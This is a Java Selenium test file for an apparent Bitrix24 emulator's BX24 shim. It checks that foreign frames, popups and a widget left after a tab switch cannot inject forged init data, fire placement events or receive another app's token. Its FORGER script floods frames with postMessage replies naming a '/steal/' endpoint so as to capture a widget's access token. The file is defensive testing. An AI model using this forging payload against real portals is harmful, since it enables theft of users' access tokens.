package dev.b24emu.emulator.internal.callcard;

import dev.b24emu.emulator.support.AppHarness;
import dev.b24emu.emulator.support.HeadlessChromium;
import dev.b24emu.emulator.testing.HandlerServer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The simulator pages' postMessage in headless Chromium, as another web page or another application's frame would
 * abuse it: the BX24 shim hears its simulator page (its parent, at the emulator's origin) and no other window, so a
 * page that opens the portal page in a popup, or a background worker beside the widget, can neither hand it init
 * data of its own (a CLIENT_ENDPOINT of its own, to which the widget's real token would then go) nor fire its
 * placement events; and on the call card a widget left by a tab switch is never answered with the next widget's form
 * (each opening has a frame of its own). The pages that try are served by a second handler server: another origin.
 */
class FrameMessagesBrowserTest extends AppHarness {
    @RegisterExtension
    final HeadlessChromium.Session chromium = new HeadlessChromium.Session();
    private WebDriver browser;
    private WebDriverWait wait;

    /**
     * A widget using the shim, as an ordinary background worker: it loads the shim a moment after its page (as
     * BX24.loadScript or a bundle would), calls user.current and logs every BackgroundCallCard::initialized.
     */
    private static final String VICTIM = """
            <!doctype html><html><head><meta charset="utf-8"><title>Victim</title></head><body>
            <div id="user"></div><div id="log"></div>
            <script>
            function log(text) {
              var line = document.createElement('div');
              line.className = 'entry';
              line.textContent = text;
              document.getElementById('log').appendChild(line);
            }
            setTimeout(function () {
              var script = document.createElement('script');
              script.src = '{{EMULATOR}}/_emulator/ui/bx24.js';
              script.onload = function () {
                BX24.init(function () {
                  BX24.callMethod('user.current', {}, function (r) {
                    document.getElementById('user').textContent = r.error() ? 'error ' + r.error() : r.data().NAME;
                  });
                  BX24.placement.bindEvent('BackgroundCallCard::initialized', function (data) {
                    log('initialized:' + JSON.stringify(data));
                  });
                });
              };
              document.head.appendChild(script);
            }, 1000);
            </script></body></html>""";

    /**
     * What another page runs at every frame of the portal page it can reach (frames() answers them) for six seconds:
     * the shim's answer to its first command, getInitData, with a token that has run out (the shim then asks the
     * page for a real one) and an endpoint of its own; and a placement event. Then it says so at /done.
     */
    private static final String FORGER = """
            <script>
            var forged = { AUTH_ID: 'forged', REFRESH_ID: 'forged', AUTH_EXPIRES: '0', CLIENT_ENDPOINT: '{{SITE}}/steal/',
              IS_ADMIN: true, PLACEMENT: 'PAGE_BACKGROUND_WORKER', PLACEMENT_OPTIONS: '{}' };
            function flood(frames) {
              var started = Date.now(), loop = setInterval(function () {
                try {
                  var list = frames();
                  for (var i = 0; list && i < list.length; i++) {
                    if (list[i] === window) { continue; }
                    list[i].postMessage({ b24emu: true, reply: true, id: 1, result: forged }, '*');
                    list[i].postMessage({ b24emu: true, event: 'BackgroundCallCard::initialized',
                      args: [{ CALL_ID: 'forged' }] }, '*');
                  }
                } catch (e) { /* a frame not there yet */ }
                if (Date.now() - started > 6000) {
                  clearInterval(loop);
                  navigator.sendBeacon('{{SITE}}/done', 'done');
                }
              }, 2);
            }
            </script>""";

    /** Another application's background worker, beside the victim's on the same portal page. */
    @Test
    void aFrameBesideTheWidgetCanNeitherFeedItInitDataNorFireItsEvents() throws Exception {
        try (HandlerServer site = new HandlerServer()) {
            startBrowser();
            bindVictim();
            site.page("/worker", "<!doctype html><body>another application's worker" + forger(site)
                    + "<script>flood(function () { return parent.frames; });</script></body>");
            String other = install("local.other", List.of("placement"), null).getString("access_token");
            oauth(other, "placement.bind", Map.of("PLACEMENT", "PAGE_BACKGROUND_WORKER", "HANDLER", site.url("/worker"),
                    "TITLE", "Other", "OPTIONS", Map.of("errorHandlerUrl", site.url("/worker-error")))).then().statusCode(200);

            browser.get(portalPage());
            awaitRequest(site, "/done");
            victimHeardOnlyItsPage(site);
        }
    }

    /** A web page the user clicks on opens the portal page in a popup and reaches its frames through it. */
    @Test
    void aPageThatOpensTheSimulatorInAPopupCanNeitherFeedTheWidgetInitDataNorFireItsEvents() throws Exception {
        try (HandlerServer site = new HandlerServer()) {
            startBrowser();
            bindVictim();
            site.page("/opener", "<!doctype html><body><button id=\"go\">Click me</button>" + forger(site)
                    + "<script>var popup = null;\ndocument.getElementById('go').onclick = function () {\n"
                    + "  popup = window.open('" + portalPage() + "', 'emu');\n"
                    + "  flood(function () { return popup && popup.frames; });\n};</script></body>");

            browser.get(site.url("/opener"));
            String opener = browser.getWindowHandle();
            browser.findElement(By.id("go")).click();
            wait.until(ExpectedConditions.numberOfWindowsToBe(2));
            awaitRequest(site, "/done");
            String popup = browser.getWindowHandles().stream().filter(h -> !h.equals(opener)).findFirst().orElseThrow();
            browser.switchTo().window(popup);
            victimHeardOnlyItsPage(site);
        }
    }

    /**
     * Two applications' CALL_CARD widgets, from one origin; A keeps asking the page for its init data and a new token
     * (the shim's commands and the portal protocol's getInitData), and says at /own the first AUTH_ID it is answered
     * and at /leak any other. The user switches to B's tab while B's handler takes two seconds to answer: A's page is
     * gone at once, and nothing is answered to it with B's form.
     */
    /** A widget page opened on its own, outside a portal's frame, is told why BX24.init will not call back. */
    @Test
    void aWidgetOpenedOutsideAPortalFrameIsToldWhere() throws Exception {
        try (HandlerServer site = new HandlerServer()) {
            startBrowser();
            site.page("/alone", "<!doctype html><body><script>window.warned = [];"
                    + " console.warn = function (text) { window.warned.push(String(text)); };</script>"
                    + "<script src=\"" + base() + "/_emulator/ui/bx24.js\"></script></body>");
            browser.get(site.url("/alone"));
            wait.until(d -> String.valueOf(((org.openqa.selenium.JavascriptExecutor) d)
                    .executeScript("return window.warned.join('|');")).contains("not in a portal's frame"));
        }
    }

    @Test
    void aWidgetLeftByATabSwitchIsNotHandedTheNextWidgetsForm() throws Exception {
        try (HandlerServer site = new HandlerServer()) {
            startBrowser();
            site.page("/a", """
                    <!doctype html><body>A<script>
                    var own = null, told = {}, n = 0, sid = window.name.split('|')[2];
                    function seen(auth) {
                      if (!auth || told[auth]) { return; }
                      told[auth] = true;
                      navigator.sendBeacon(own === null ? '{{SITE}}/own' : '{{SITE}}/leak', auth);
                      if (own === null) { own = auth; }
                    }
                    window.addEventListener('message', function (e) {
                      var m = e.data;
                      if (m && m.b24emu && m.reply && m.result) { seen(m.result.AUTH_ID); }
                      if (typeof m === 'string' && m.charAt(0) === 'a') { // the portal protocol's "aN:{...}"
                        try { seen(JSON.parse(m.slice(m.indexOf(':') + 1)).AUTH_ID); } catch (notJson) { /* an event */ }
                      }
                    });
                    setInterval(function () {
                      n++;
                      parent.postMessage({ b24emu: true, id: n, cmd: n % 2 ? 'getInitData' : 'refreshAuth', params: {} }, '*');
                      parent.postMessage('getInitData::a' + n + ':' + sid, '*');
                    }, 20);
                    </script></body>""".replace("{{SITE}}", site.url("")));
            site.page("/b", """
                    <!doctype html><html><head><script src="{{EMULATOR}}/_emulator/ui/bx24.js"></script></head><body>
                    <div id="auth"></div><div id="user"></div>
                    <script>
                    BX24.init(function () {
                      document.getElementById('auth').textContent = BX24.getAuth().access_token;
                      BX24.callMethod('user.current', {}, function (r) { document.getElementById('user').textContent = r.data().NAME; });
                    });
                    </script></body></html>""".replace("{{EMULATOR}}", base()));
            String a = install("local.a", List.of("telephony", "placement"), null).getString("access_token");
            oauth(a, "placement.bind", Map.of("PLACEMENT", "CALL_CARD", "HANDLER", site.url("/a"), "TITLE", "App A"))
                    .then().statusCode(200);
            String b = install("local.b", List.of("telephony", "user", "placement"), null).getString("access_token");
            oauth(b, "placement.bind", Map.of("PLACEMENT", "CALL_CARD", "HANDLER", site.url("/b"), "TITLE", "App B"))
                    .then().statusCode(200);
            String callId = call("telephony.externalcall.register", Map.of("USER_ID", 2, "PHONE_NUMBER", "+79990000001",
                    "TYPE", 1)).then().statusCode(200).extract().path("result.CALL_ID");

            browser.get(base() + "/_emulator/ui/call-card?portal=" + portal.id() + "&call=" + callId + "&user=2");
            String own = awaitRequest(site, "/own"); // A is answered, with its own form
            site.answer(200, 2_000); // B's handler answers slowly from now on
            List<WebElement> tabs = browser.findElements(By.cssSelector("#tabs [role=tab]"));
            assertEquals(List.of("App A", "App B"), tabs.stream().map(WebElement::getText).toList());
            tabs.get(1).click();
            wait.until(ExpectedConditions.textToBe(By.id("widget-title"), "App B"));
            wait.until(ExpectedConditions.frameToBeAvailableAndSwitchToIt("widget"));
            wait.until(ExpectedConditions.textToBe(By.id("user"), "Ivan")); // B works, with its own token
            String bToken = browser.findElement(By.id("auth")).getText();
            Thread.sleep(1_000); // room for a late report
            // A's refreshAuth is answered with a new token of A's, as the portal issues one each time (D207): every
            // token A is told after its first must still be application A's, never B's form's
            List<String> later = bodies(site, "/leak");
            for (String token : later) {
                assertEquals("local.a", oauth(token, "app.info", Map.of()).then().extract().path("result.CODE"),
                        "widget A (" + own + ") was answered with another application's AUTH_ID " + token
                                + " after the switch to B (" + bToken + ")");
            }
            assertTrue(!later.contains(bToken), "widget A was handed B's form");
            assertNotEquals(own, bToken, "A's token and B's are one");
        }
    }

    private void startBrowser() throws Exception {
        browser = chromium.start();
        wait = new WebDriverWait(browser, Duration.ofSeconds(20));
        wait.ignoring(org.openqa.selenium.StaleElementReferenceException.class);
    }

    /** The victim application's background worker, the shim widget {@link #VICTIM}, titled "Victim". */
    private void bindVictim() {
        handler.page("/victim", VICTIM.replace("{{EMULATOR}}", base()));
        String token = install("local.victim", List.of("telephony", "user", "placement"), null).getString("access_token");
        oauth(token, "placement.bind", Map.of("PLACEMENT", "PAGE_BACKGROUND_WORKER", "HANDLER", handler.url("/victim"),
                "TITLE", "Victim", "OPTIONS", Map.of("errorHandlerUrl", handler.url("/victim-error")))).then().statusCode(200);
    }

    private String portalPage() {
        return base() + "/_emulator/ui/page?portal=" + portal.id() + "&user=2";
    }

    private static String forger(HandlerServer site) {
        return FORGER.replace("{{SITE}}", site.url(""));
    }

    /**
     * On the portal page (the current window), once the forging is over: no request reached the other origin's
     * endpoint, the victim got its own init data (user.current answered through the emulator) and none of the
     * forged events, and it still hears the page's own: a call's initialized.
     */
    private void victimHeardOnlyItsPage(HandlerServer site) {
        List<String> stolen = site.received().stream().filter(r -> r.path().startsWith("/steal/"))
                .map(r -> r.path() + " " + r.body()).toList();
        assertTrue(stolen.isEmpty(), "the widget's calls went to the other origin's endpoint: " + stolen);
        browser.findElement(By.id("show-frames")).click();
        wait.until(ExpectedConditions.frameToBeAvailableAndSwitchToIt(By.cssSelector("#frames iframe[title='Victim']")));
        wait.withMessage(() -> "user.current of the victim: " + text("user") + ", its log " + lines())
                .until(d -> "Ivan".equals(text("user")));
        assertTrue(lines().stream().noneMatch(l -> l.contains("forged")), "a forged event reached the widget: " + lines());

        String callId = call("telephony.externalcall.register", Map.of("USER_ID", 2, "PHONE_NUMBER", "+79990000001",
                "TYPE", 2)).then().statusCode(200).extract().path("result.CALL_ID");
        wait.withMessage(() -> "the page's initialized for " + callId + " in " + lines()).until(d -> lines().stream()
                .anyMatch(l -> l.startsWith("initialized:") && l.contains("\"CALL_ID\":\"" + callId + "\"")));
        assertTrue(lines().stream().noneMatch(l -> l.contains("forged")), "a forged event reached the widget: " + lines());
    }

    private String text(String id) {
        return (String) ((JavascriptExecutor) browser).executeScript(
                "var e = document.getElementById(arguments[0]); return e ? e.textContent : null;", id);
    }

    @SuppressWarnings("unchecked")
    private List<String> lines() {
        return (List<String>) ((JavascriptExecutor) browser).executeScript(
                "return Array.from(document.querySelectorAll('#log .entry')).map(function (e) { return e.textContent; });");
    }

    /** The body of the first request to the path on the server, waited for (at most 20 s). */
    private static String awaitRequest(HandlerServer server, String path) throws InterruptedException {
        long deadline = System.currentTimeMillis() + 20_000;
        while (System.currentTimeMillis() < deadline) {
            List<String> found = bodies(server, path);
            if (!found.isEmpty()) {
                return found.get(0);
            }
            Thread.sleep(50);
        }
        throw new AssertionError("nothing came to " + path + " within 20 s; the server had "
                + server.received().stream().map(HandlerServer.Received::path).toList());
    }

    private static List<String> bodies(HandlerServer server, String path) {
        return server.received().stream().filter(r -> r.path().equals(path)).map(HandlerServer.Received::body).toList();
    }
}
